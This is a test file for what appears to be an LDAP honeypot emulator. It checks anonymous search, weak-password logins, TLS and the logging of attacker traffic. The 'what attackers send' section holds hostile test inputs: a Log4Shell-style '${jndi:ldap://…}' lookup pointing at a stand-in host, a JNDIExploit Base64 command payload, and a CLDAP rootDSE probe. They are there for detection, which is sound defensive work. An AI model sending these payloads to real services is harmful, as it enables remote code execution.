import { createSocket } from 'node:dgram'
import { Client, InvalidCredentialsError } from 'ldapts'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import lure from '../../../src/emulators/ldap/index.ts'
import { encodeElement, encodeInteger, encodeOctets, sequence } from '../../../src/sensor/ber.ts'
import { type Playing, play } from '../../harness.ts'
import { accountsOnly } from '../hosts.ts'

const BASE = 'dc=tarnholt-weir,dc=internal'
const MARIS = `uid=maris,ou=people,${BASE}`

let p: Playing
beforeAll(async () => {
  p = await play(lure, { persona: 'debian-web', hosts: accountsOnly(), options: { login: { policy: 'list' } } })
})
afterAll(async () => {
  expect(p.data('lure.fault')).toEqual([])
  expect(p.deadLetters).toEqual([])
  await p.stop()
})

async function using<T>(talk: (client: Client) => Promise<T>, index = 0): Promise<T> {
  const scheme = index === 1 ? 'ldaps' : 'ldap'
  const client = new Client({
    url: `${scheme}://127.0.0.1:${p.port(index)}`,
    timeout: 3000,
    ...(index === 1 && { tlsOptions: { rejectUnauthorized: false } }),
  })
  try {
    return await talk(client)
  } finally {
    await client.unbind()
  }
}

describe('ldapts', () => {
  it('finds the people, groups and services of the persona without a password', async () => {
    const { searchEntries } = await using((c) =>
      c.search(BASE, { filter: '(|(objectClass=posixAccount)(objectClass=posixGroup)(uid=svc-*))' }),
    )
    const maris = searchEntries.find(({ dn }) => dn === MARIS)
    expect(maris).toMatchObject({ cn: 'Maris Fennick', mail: 'maris@tarnholt-weir.internal', uidNumber: '1000' })
    expect(maris).not.toHaveProperty('userPassword')
    expect(searchEntries.map(({ dn }) => dn)).toContain(`cn=admins,ou=groups,${BASE}`)
    expect(searchEntries.map(({ dn }) => dn)).toContain(`uid=svc-backup,ou=services,${BASE}`)
    expect(p.data('ldap.search').at(-1)).toMatchObject({ base: BASE, scope: 'sub', entries: searchEntries.length, code: 0 })
  })

  it('pages', async () => {
    const all = await using((c) => c.search(BASE, { filter: '(objectClass=*)' }))
    const paged = await using((c) => c.search(BASE, { filter: '(objectClass=*)', paged: { pageSize: 3 } }))
    expect(paged.searchEntries.map(({ dn }) => dn)).toEqual(all.searchEntries.map(({ dn }) => dn))
  })

  it('is let in with a weak password and then reads its own hash, and nobody else’s', async () => {
    await expect(using((c) => c.bind(MARIS, 'letmein'))).rejects.toThrow(InvalidCredentialsError)
    const { searchEntries } = await using(async (c) => {
      await c.bind(MARIS, 'summer2024')
      return c.search(BASE, { attributes: ['userPassword'] })
    })
    const withHash = searchEntries.filter(({ userPassword }) => String(userPassword).startsWith('{SSHA}'))
    expect(withHash.map(({ dn }) => dn)).toEqual([MARIS])
    expect(p.data('login').slice(-2)).toEqual([
      { method: 'ldap-simple', username: 'maris', password: 'letmein', accepted: false },
      { method: 'ldap-simple', username: 'maris', password: 'summer2024', accepted: true },
    ])
  })

  it('speaks TLS on 636 and after StartTLS', async () => {
    await using((c) => c.bind(MARIS, 'summer2024'), 1)
    await using(async (c) => {
      await c.startTLS({ rejectUnauthorized: false })
      await c.bind(MARIS, 'summer2024')
    })
    expect(p.data('ldap.extended').at(-1)).toMatchObject({ oid: '1.3.6.1.4.1.1466.20037', code: 0 })
  })

  it('writes down who wants to change something', async () => {
    await expect(using((c) => c.add(`uid=evil,ou=people,${BASE}`, { objectClass: 'account', uid: 'evil' }))).rejects.toThrow()
    expect(p.data('ldap.write').at(-1)).toMatchObject({ operation: 'add', dn: `uid=evil,ou=people,${BASE}`, code: 8 })
  })
})

describe('what attackers send', () => {
  it('tags a Java that follows a lookup, and finds the lookup in a name', async () => {
    const ask = Buffer.concat([
      encodeOctets('Basic/Command/Base64/aWQ='),
      ...[Buffer.of(0x0a, 1, 0), Buffer.of(0x0a, 1, 3), encodeInteger(0), encodeInteger(0), Buffer.of(1, 1, 0)],
      encodeElement(0x87, Buffer.from('objectClass')),
      sequence(),
    ])
    const lookup = sequence(encodeInteger(2), encodeElement(0x63, ask))
    await p.exchange(lookup)
    expect(p.events.filter(({ type }) => type === 'ldap.search').at(-1)?.tags).toContain('note:jndi-client')
    await expect(using((c) => c.bind('cn=${jndi:ldap://203.0.113.9/a},dc=x', 'x'))).rejects.toThrow()
    expect(p.data('jndi.lookup').at(-1)).toMatchObject({ scheme: 'ldap', host: '203.0.113.9' })
  })

  it('answers a rootDSE over UDP in one small datagram', async () => {
    const request = Buffer.from(
      '30840000002d02010763840000002404000a01000a0100020100020164010100870b6f626a656374436c617373308400000000',
      'hex',
    )
    const socket = createSocket('udp4')
    const answer = await new Promise<Buffer>((resolve) => {
      socket.once('message', resolve)
      socket.send(request, p.port(2), '127.0.0.1')
    })
    socket.close()
    expect(answer.length).toBeLessThan(300)
    expect(answer.toString('latin1')).toContain(BASE)
  })
})
